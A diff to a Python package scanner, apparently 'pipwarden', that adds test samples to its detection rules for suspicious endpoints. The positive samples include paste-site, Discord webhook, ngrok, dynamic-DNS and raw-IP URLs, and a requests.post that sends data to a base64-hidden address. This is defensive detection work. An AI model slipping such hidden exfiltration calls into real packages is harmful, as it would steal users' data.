@@ -4,7 +4,8 @@ from __future__ import annotations
 
 from pipwarden.findings import Severity
 from pipwarden.rules import ON_LOAD, Where
-from pipwarden.scan.rules._base import CRITICAL, HIGH, LOW, MEDIUM, rule
+from pipwarden.scan.rules._base import CRITICAL, HIGH, LOW, MEDIUM, negative, positive, rule
+from pipwarden.scan.rules._samples import URL
 
 _FIX = "Check what the package sends to or fetches from this address."
 #: Anywhere in a file that runs at install time (whole_file): contacting a paste site, a
@@ -21,6 +22,10 @@ RULES = [
         _FIX,
         severity_in=_IN_INSTALL_FILES,
         whole_file=True,
+        samples=(
+            positive("U = 'https://pastebin.com/raw/abc'\n"),
+            negative(f"U = {URL!r}\n"),
+        ),
     ),
     rule(
         "suspicious-endpoint.webhook",
@@ -31,6 +36,10 @@ RULES = [
         _FIX,
         severity_in=_IN_INSTALL_FILES,
         whole_file=True,
+        samples=(
+            positive("U = 'https://discord.com/api/webhooks/1/abc'\n"),
+            negative("U = 'https://discord.com/developers/docs'\n"),
+        ),
     ),
     rule(
         "suspicious-endpoint.tunnel",
@@ -41,6 +50,10 @@ RULES = [
         _FIX,
         severity_in=_IN_INSTALL_FILES,
         whole_file=True,
+        samples=(
+            positive("U = 'https://abc123.ngrok.io/collect'\n"),
+            negative("U = 'https://docs.example.invalid/tunnels'\n"),
+        ),
     ),
     rule(
         "suspicious-endpoint.dynamic-dns",
@@ -51,6 +64,10 @@ RULES = [
         _FIX,
         severity_in=_IN_INSTALL_FILES,
         whole_file=True,
+        samples=(
+            positive("U = 'http://evil.duckdns.org/x'\n"),
+            negative("U = 'http://ducks.example.invalid/x'\n"),
+        ),
     ),
     rule(
         "suspicious-endpoint.raw-ip",
@@ -59,6 +76,10 @@ RULES = [
         "URL with a public raw IP address",
         "Legitimate services are reached by name.",
         _FIX,
+        samples=(
+            positive("U = 'http://8.8.4.4/payload'\n"),
+            negative("U = 'http://127.0.0.1:8000/ and http://10.0.0.1/'\n"),
+        ),
     ),
     rule(
         "suspicious-endpoint.contacted",
@@ -69,6 +90,10 @@ RULES = [
         _FIX,
         severity_in=_IN_INSTALL_FILES,
         whole_file=True,
+        samples=(
+            positive("import requests\ndef f():\n    requests.get('https://abc.ngrok.io/a')\n"),
+            negative("def f():\n    print('https://abc.ngrok.io/a')\n"),
+        ),
     ),
     rule(
         "suspicious-endpoint.hidden",
@@ -78,6 +103,15 @@ RULES = [
         "The URL or host a network call contacts is decoded at run time (base64, zlib, "
         "reversed, xor): the destination was hidden from review.",
         "Decode it (pipwarden shows the call) and check where data goes.",
+        samples=(
+            positive(
+                "import base64, requests\n"
+                "def f(data):\n    requests.post(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv'), data=data)\n"
+            ),
+            negative(
+                "import requests\ndef f(data):\n    requests.post('https://api.example.invalid/v1', data=data)\n"
+            ),
+        ),
     ),
 ]
 
